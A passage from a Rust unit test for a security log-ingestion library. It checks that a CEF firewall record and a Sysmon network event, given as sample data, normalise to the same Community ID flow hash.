        "CEF:0|Example|Firewall|1.0|100|Allowed|3|rt=Dec 01 2026 10:00:00 src=10.0.0.5 spt=49712 dst=203.0.113.9 dpt=443 proto=TCP act=allow\n",
        &Options::default(),
    );
    // Windows events as JSON (evtx_dump's shape) are recognized per record.
    let sysmon = read_text(
        Format::Json,
        r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":3,"TimeCreated":{"#attributes":{"SystemTime":"2026-12-01T10:00:00Z"}},"EventRecordID":7,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"web1.example"},"EventData":{"Image":"C:\\inetpub\\w3svc.exe","Protocol":"tcp","Initiated":"false","SourceIp":"203.0.113.9","SourcePort":443,"DestinationIp":"10.0.0.5","DestinationPort":49712}}}
"##,
        &Options::default(),
    );
    let id = |read: &common::Read| {
        assert_eq!(read.summary.rejected, 0, "{:?}", read.rejections);
        text(&read.events[0], "network.community_id")
    };
    let expected = Some(secops_ingest::community_id::v1(
        0,
        "10.0.0.5".parse().unwrap(),
        "203.0.113.9".parse().unwrap(),
        6,
        Some((49712, 443)),
    ));
    assert!(expected.as_deref().unwrap().starts_with("1:"));
    assert_eq!(id(&zeek), expected);
    assert_eq!(id(&cef), expected);
    assert_eq!(id(&sysmon), expected);
}
